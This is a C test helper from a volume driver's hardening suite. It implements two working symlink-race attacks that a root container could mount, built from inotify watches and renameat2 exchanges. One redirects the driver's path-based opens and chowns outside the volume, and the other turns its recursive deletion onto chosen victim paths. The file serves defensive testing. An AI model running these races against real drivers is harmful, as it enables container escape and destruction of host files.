/*
 * What a root container can do inside its own keymount volume, as a real
 * process racing the driver's refreshes. Built by the hardening tests with the
 * machine's cc (test/hardening/attacker.ts); never part of keymount itself.
 *
 *   attacker swap   ROOT OUTSIDE MAX_MS MAX_SWAPS
 *     Watches ROOT with inotify; whenever the driver creates a fresh data
 *     directory ("..2…"), exchanges it (renameat2 RENAME_EXCHANGE) with a
 *     symlink to OUTSIDE, so the driver's later opens and chowns by path land
 *     in OUTSIDE.
 *
 *   attacker delete ROOT MAX_MS FILLER_FILES VICTIM...
 *     Plants per victim a directory "..filler.N" in ROOT holding two
 *     directories of FILLER_FILES files with an entry named like the victim
 *     between them. When the driver starts deleting the filler (the first
 *     unlink inside it), exchanges "..filler.N" with a symlink to the victim's
 *     parent, so a deletion by path that goes on through "..filler.N" removes
 *     the victim.
 *
 * Every loop is bounded by MAX_MS and by its count. Prints "ready" once its
 * watches are in place, and one JSON line of counters at the end. Failures of
 * the attack itself (EROFS, EPERM) are counted, not fatal: against a safe
 * driver the attack simply does nothing.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define MAX_VICTIMS 8
#define MAX_FILLER_FILES 20000

struct counters {
  long events;
  long attempts;
  long swaps;
  long errors;
  int last_errno;
  const char *last_step;
};

static struct counters counters;
static volatile sig_atomic_t stop_requested;

static void on_stop(int signal_number) {
  (void)signal_number;
  stop_requested = 1;
}

/* SIGTERM ends the attack early but still prints the counters; no SA_RESTART, so poll() returns at once. */
static void handle_stop_signal(void) {
  struct sigaction action;
  memset(&action, 0, sizeof action);
  action.sa_handler = on_stop;
  sigemptyset(&action.sa_mask);
  sigaction(SIGTERM, &action, NULL);
}

/* Called directly: older C libraries have no renameat2 wrapper. */
static int exchange(int dirfd, const char *a, const char *b) {
  return (int)syscall(SYS_renameat2, dirfd, a, dirfd, b, RENAME_EXCHANGE);
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static void failed(const char *step) {
  counters.errors++;
  counters.last_errno = errno;
  counters.last_step = step;
}

static void report(const char *mode) {
  /* errno as a number: strerrorname_np is not in every C library. */
  printf("{\"mode\":\"%s\",\"events\":%ld,\"attempts\":%ld,\"swaps\":%ld,\"errors\":%ld,\"lastErrno\":%d,\"lastStep\":\"%s\"}\n",
         mode, counters.events, counters.attempts, counters.swaps, counters.errors, counters.last_errno,
         counters.last_step ? counters.last_step : "");
  fflush(stdout);
}

static void ready(void) {
  printf("ready\n");
  fflush(stdout);
}

static long parse_long(const char *text, long max) {
  char *end;
  long value = strtol(text, &end, 10);
  if (*end != '\0' || value < 0 || value > max) {
    fprintf(stderr, "bad number: %s\n", text);
    exit(2);
  }
  return value;
}

/* Waits up to the deadline for inotify events; returns bytes read, 0 on timeout. */
static ssize_t read_events(int inotify_fd, char *buffer, size_t size, long deadline) {
  long left = deadline - now_ms();
  if (left <= 0 || stop_requested) return 0;
  struct pollfd pfd = {.fd = inotify_fd, .events = POLLIN};
  int ready_count = poll(&pfd, 1, (int)(left > INT_MAX ? INT_MAX : left));
  if (ready_count <= 0) return 0;
  ssize_t length = read(inotify_fd, buffer, size);
  return length < 0 ? 0 : length;
}

static int is_driver_data_dir(const struct inotify_event *event) {
  /* The atomic writer names its data directories "..<timestamp>.<hex>". */
  return event->len > 0 && (event->mask & IN_ISDIR) && strncmp(event->name, "..2", 3) == 0;
}

static int run_swap(const char *root, const char *outside, long max_ms, long max_swaps) {
  long deadline = now_ms() + max_ms;
  int root_fd = open(root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int inotify_fd = inotify_init1(IN_CLOEXEC);
  if (root_fd < 0 || inotify_fd < 0) {
    perror("open");
    return 1;
  }
  if (inotify_add_watch(inotify_fd, root, IN_CREATE | IN_DELETE) < 0) {
    perror("inotify_add_watch");
    return 1;
  }
  char link_name[64];
  long link_number = 0;
  snprintf(link_name, sizeof link_name, "..evil.%ld", link_number);
  /* Made ahead, so a swap costs one system call after the wake-up. */
  if (symlinkat(outside, root_fd, link_name) != 0) failed("symlink");
  ready();

  char buffer[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
  while (counters.swaps < max_swaps) {
    ssize_t length = read_events(inotify_fd, buffer, sizeof buffer, deadline);
    if (length == 0) break;
    for (char *cursor = buffer; cursor < buffer + length;) {
      const struct inotify_event *event = (const struct inotify_event *)cursor;
      cursor += sizeof *event + event->len;
      if ((event->mask & IN_DELETE) && event->len > 0 && strcmp(event->name, link_name) == 0) {
        /* The driver removed the spare link as a stale entry: plant it again for the next refresh. */
        if (symlinkat(outside, root_fd, link_name) != 0) failed("symlink");
        continue;
      }
      if (!(event->mask & IN_CREATE) || !is_driver_data_dir(event)) continue;
      counters.events++;
      counters.attempts++;
      if (exchange(root_fd, link_name, event->name) != 0) {
        if (errno == ENOENT && symlinkat(outside, root_fd, link_name) == 0 && exchange(root_fd, link_name, event->name) == 0) {
          /* recreated the link and won anyway */
        } else {
          failed("renameat2");
          continue;
        }
      }
      counters.swaps++;
      /* The driver's real directory now sits under link_name; the next swap needs a new link. */
      link_number++;
      snprintf(link_name, sizeof link_name, "..evil.%ld", link_number);
      if (symlinkat(outside, root_fd, link_name) != 0) failed("symlink");
    }
  }
  report("swap");
  return 0;
}

struct filler {
  char name[64];
  char link[64];
  char parent[PATH_MAX];
  int watch_a;
  int watch_b;
  int swapped;
};

static const char *base_name(const char *path) {
  const char *slash = strrchr(path, '/');
  return slash ? slash + 1 : path;
}

static int fill_directory(int dir_fd, const char *name, long files) {
  if (mkdirat(dir_fd, name, 0755) != 0) return -1;
  int fd = openat(dir_fd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return -1;
  for (long index = 0; index < files; index++) {
    char file[32];
    snprintf(file, sizeof file, "f%05ld", index);
    int file_fd = openat(fd, file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (file_fd < 0) {
      close(fd);
      return -1;
    }
    close(file_fd);
  }
  close(fd);
  return 0;
}

/* ROOT/..filler.N/{a/f*, <victim name>, b/f*}: whichever order readdir gives, the victim's name comes after a slow part. */
static int plant_filler(int root_fd, const char *root, struct filler *filler, const char *victim, long files, int inotify_fd) {
  const char *victim_name = base_name(victim);
  size_t parent_length = (size_t)(victim_name - victim);
  if (parent_length <= 1 || parent_length >= sizeof filler->parent || victim_name[0] == '\0') {
    fprintf(stderr, "victim must be an absolute path below /: %s\n", victim);
    exit(2);
  }
  memcpy(filler->parent, victim, parent_length - 1);
  filler->parent[parent_length - 1] = '\0';
  if (mkdirat(root_fd, filler->name, 0755) != 0) return failed("mkdir filler"), -1;
  int filler_fd = openat(root_fd, filler->name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (filler_fd < 0) return failed("open filler"), -1;
  int ok = fill_directory(filler_fd, "a", files) == 0 && mkdirat(filler_fd, victim_name, 0755) == 0 && fill_directory(filler_fd, "b", files) == 0;
  close(filler_fd);
  if (!ok) return failed("fill"), -1;
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/%s/a", root, filler->name);
  filler->watch_a = inotify_add_watch(inotify_fd, path, IN_DELETE);
  snprintf(path, sizeof path, "%s/%s/b", root, filler->name);
  filler->watch_b = inotify_add_watch(inotify_fd, path, IN_DELETE);
  if (filler->watch_a < 0 || filler->watch_b < 0) return failed("watch"), -1;
  if (symlinkat(filler->parent, root_fd, filler->link) != 0) return failed("symlink"), -1;
  return 0;
}

static int run_delete(const char *root, long max_ms, long files, int victim_count, char **victims) {
  long deadline = now_ms() + max_ms;
  int root_fd = open(root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int inotify_fd = inotify_init1(IN_CLOEXEC);
  if (root_fd < 0 || inotify_fd < 0) {
    perror("open");
    return 1;
  }
  struct filler fillers[MAX_VICTIMS];
  int planted = 0;
  for (int index = 0; index < victim_count; index++) {
    struct filler *filler = &fillers[index];
    memset(filler, 0, sizeof *filler);
    snprintf(filler->name, sizeof filler->name, "..filler.%d", index);
    snprintf(filler->link, sizeof filler->link, "..evil.%d", index);
    filler->watch_a = filler->watch_b = -1;
    if (plant_filler(root_fd, root, filler, victims[index], files, inotify_fd) == 0) planted++;
    else filler->swapped = 1; /* nothing to swap */
  }
  ready();

  char buffer[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
  while (counters.swaps < planted) {
    ssize_t length = read_events(inotify_fd, buffer, sizeof buffer, deadline);
    if (length == 0) break;
    for (char *cursor = buffer; cursor < buffer + length;) {
      const struct inotify_event *event = (const struct inotify_event *)cursor;
      cursor += sizeof *event + event->len;
      if (!(event->mask & IN_DELETE)) continue;
      for (int index = 0; index < victim_count; index++) {
        struct filler *filler = &fillers[index];
        if (filler->swapped || (event->wd != filler->watch_a && event->wd != filler->watch_b)) continue;
        counters.events++;
        counters.attempts++;
        filler->swapped = 1;
        /* The driver may have removed the spare link as a stale entry already: plant it again. */
        if (exchange(root_fd, filler->link, filler->name) == 0 ||
            (errno == ENOENT && symlinkat(filler->parent, root_fd, filler->link) == 0 && exchange(root_fd, filler->link, filler->name) == 0)) {
          counters.swaps++;
        } else {
          failed("renameat2");
        }
      }
    }
  }
  report("delete");
  return 0;
}

int main(int argc, char **argv) {
  handle_stop_signal();
  if (argc == 6 && strcmp(argv[1], "swap") == 0) {
    return run_swap(argv[2], argv[3], parse_long(argv[4], 600000), parse_long(argv[5], 1000000));
  }
  if (argc >= 6 && argc - 5 <= MAX_VICTIMS && strcmp(argv[1], "delete") == 0) {
    return run_delete(argv[2], parse_long(argv[3], 600000), parse_long(argv[4], MAX_FILLER_FILES), argc - 5, argv + 5);
  }
  fprintf(stderr, "usage: attacker swap ROOT OUTSIDE MAX_MS MAX_SWAPS\n       attacker delete ROOT MAX_MS FILLER_FILES VICTIM...\n");
  return 2;
}
